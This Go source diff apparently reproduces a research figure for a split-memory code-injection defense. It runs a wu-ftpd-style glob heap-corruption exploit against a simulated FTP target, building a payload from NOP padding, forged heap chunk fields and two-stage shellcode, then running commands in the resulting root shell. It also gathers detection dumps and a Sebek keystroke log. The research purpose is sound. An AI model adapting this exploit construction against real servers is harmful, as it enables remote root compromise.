@@ -1,0 +1,149 @@
+package attacks
+
+import (
+	"fmt"
+	"strings"
+
+	"splitmem"
+	"splitmem/internal/isa"
+)
+
+// Fig. 5: the wu-ftpd exploit executed under the three response modes, plus
+// the Sebek keystroke log captured during observe mode.
+
+// Fig5Result captures one response-mode demonstration.
+type Fig5Result struct {
+	Mode         splitmem.ResponseMode
+	ShellSpawned bool
+	AttackerView string // what the exploit's operator sees
+	Dump         []byte // forensics: bytes captured at the hijacked EIP
+	DumpEIP      uint32
+	SebekLog     []string
+	Detections   int
+}
+
+// RunFig5 executes the 7350wurm-style exploit under the given response
+// mode, interacting with the spawned shell in observe mode exactly as the
+// paper's screenshots show.
+func RunFig5(mode splitmem.ResponseMode) (Fig5Result, error) {
+	cfg := splitmem.Config{Protection: splitmem.ProtSplit, Response: mode}
+	var shell []string
+	if mode == splitmem.Observe {
+		shell = []string{"id", "uname -a", "exit"}
+	}
+	if mode == splitmem.Forensics {
+		cfg.ForensicShellcode = splitmem.ExitShellcode()
+	}
+
+	t, err := NewTarget(cfg, miniwuftpSrc, "miniwuftp")
+	if err != nil {
+		return Fig5Result{}, err
+	}
+	res := Fig5Result{Mode: mode}
+	var view strings.Builder
+	view.WriteString("7350wurm - x86/S86 wu-ftpd <= 2.6.1 remote root (mini reproduction)\n")
+
+	step := func(send string, wait string) bool {
+		if send != "" {
+			t.SendLine(send)
+		}
+		out, ok := t.WaitOutput(wait)
+		view.WriteString(out)
+		return ok
+	}
+	if !step("", "220") {
+		return res, fmt.Errorf("fig5: no banner")
+	}
+	view.WriteString("# trying to log in with (ftp/ftp) ... connected.\n")
+	step("USER ftp", "331")
+	step("PASS ftp", "230")
+	view.WriteString("# heap corruption via globbing, preparing chunk forgery\n")
+	t.SendLine("GLOB 144")
+	out, ok := t.WaitOutput("150 ")
+	view.WriteString(out)
+	if !ok {
+		return res, fmt.Errorf("fig5: no leak")
+	}
+	pat, err := parseLeak(out, "150 ")
+	if err != nil {
+		return res, err
+	}
+	handlerAddr, err := wuHandlerAddr()
+	if err != nil {
+		return res, err
+	}
+	stage1At := pat + 16
+	stage1 := TwoStageShellcode(stage1At, "OK!!")
+	payload := make([]byte, 16)
+	payload = append(payload, stage1...)
+	payload = pad(payload, 132, 0x90)
+	payload = append(payload, le32(16)...)
+	payload = append(payload, le32(stage1At)...)
+	payload = append(payload, le32(handlerAddr-4)...)
+	t.Send(payload)
+	view.WriteString("# exploiting the glob heap corruption ...\n")
+
+	out, gotCookie := t.WaitOutput("OK!!")
+	view.WriteString(out)
+	if gotCookie {
+		view.WriteString("# stage 1 alive, sending stage 2 ...\n")
+		t.Send(pad(ExecveShellcode(stage1At+96), 128, 0x90))
+		t.Run()
+		if t.P.ShellSpawned() {
+			view.WriteString("# it's a rootshell!\n")
+			for _, cmd := range shell {
+				t.SendLine(cmd)
+				t.Run()
+				view.WriteString(fmt.Sprintf("sh-2.05# %s\n", cmd))
+				view.WriteString(string(t.P.StdoutDrain()))
+			}
+		}
+	} else {
+		t.Run()
+		view.WriteString(string(t.P.StdoutDrain()))
+		if killed, sig := t.P.Killed(); killed {
+			view.WriteString(fmt.Sprintf("# connection lost (%v) - exploit failed\n", sig))
+		} else if exited, code := t.P.Exited(); exited {
+			view.WriteString(fmt.Sprintf("# server closed the session gracefully (exit %d) - exploit failed\n", code))
+		} else {
+			view.WriteString("# no response - exploit failed\n")
+		}
+	}
+
+	res.ShellSpawned = t.P.ShellSpawned()
+	res.AttackerView = view.String()
+	res.Detections = len(t.M.EventsOf(splitmem.EvInjectionDetected))
+	for _, ev := range t.M.EventsOf(splitmem.EvForensicDump) {
+		res.Dump = ev.Data
+		res.DumpEIP = ev.Addr
+	}
+	if len(res.Dump) == 0 {
+		for _, ev := range t.M.EventsOf(splitmem.EvInjectionDetected) {
+			res.Dump = ev.Data
+			res.DumpEIP = ev.Addr
+		}
+	}
+	for _, ev := range t.M.EventsOf(splitmem.EvSebekLine) {
+		res.SebekLog = append(res.SebekLog, strings.TrimRight(ev.Text, "\n"))
+	}
+	return res, nil
+}
+
+// RenderFig5 formats a Fig5Result the way the paper's figure presents it.
+func RenderFig5(r Fig5Result) string {
+	var sb strings.Builder
+	fmt.Fprintf(&sb, "===== Fig. 5 (%s mode) =====\n", r.Mode)
+	sb.WriteString(r.AttackerView)
+	if len(r.Dump) > 0 {
+		fmt.Fprintf(&sb, "\n[kernel] injected code detected at EIP=%#08x; first %d bytes:\n", r.DumpEIP, len(r.Dump))
+		fmt.Fprintf(&sb, "  % x\n", r.Dump)
+		sb.WriteString(isa.Disassemble(r.Dump, r.DumpEIP, 6))
+	}
+	if len(r.SebekLog) > 0 {
+		sb.WriteString("\n[sebek] keystroke log:\n")
+		for _, l := range r.SebekLog {
+			fmt.Fprintf(&sb, "  %s\n", l)
+		}
+	}
+	return sb.String()
+}
